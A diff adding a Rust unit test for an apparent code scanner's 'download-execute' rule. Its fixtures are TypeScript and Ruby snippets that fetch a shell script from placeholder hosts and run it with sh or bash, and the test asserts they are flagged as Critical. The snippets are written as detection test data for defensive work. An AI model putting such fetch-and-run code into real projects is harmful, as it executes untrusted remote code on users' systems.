@@ -375,3 +375,15 @@ fn powershell_pipeline_continued_after_a_pipe() {
     let temp = "Get-ChildItem \"$env:TEMP\\*\" |\n    Remove-Item -Recurse -Force\n";
     assert_eq!(worst(&[("clean.ps1", temp)], rule), None);
 }
+
+#[test]
+fn round_12_fetched_text_as_a_shells_command_and_system_bash() {
+    let rule = "supply_chain.download-execute";
+    let ts = "const res = await fetch(\"https://edge.shim.example/install.sh\");\nconst script = await res.text();\nconst p = Bun.spawn([\"sh\", \"-c\", script]);\n";
+    assert_eq!(worst(&[("scripts/a.ts", ts)], rule), Some(Critical));
+    let rb = "require 'open-uri'\ndef fetch_it\n  body = URI.open('https://gems.mirror.example/warm.sh').read\n  path = File.join(Dir.tmpdir, 'w.sh')\n  File.write(path, body)\n  path\nend\nscript = fetch_it\nsystem('bash', script)\n";
+    assert_eq!(worst(&[("scripts/a.rb", rb)], rule), Some(Critical));
+    // A local script run by bash is not a download.
+    let local = "system('bash', 'scripts/setup.sh')\n";
+    assert_eq!(worst(&[("scripts/a.rb", local)], rule), None);
+}
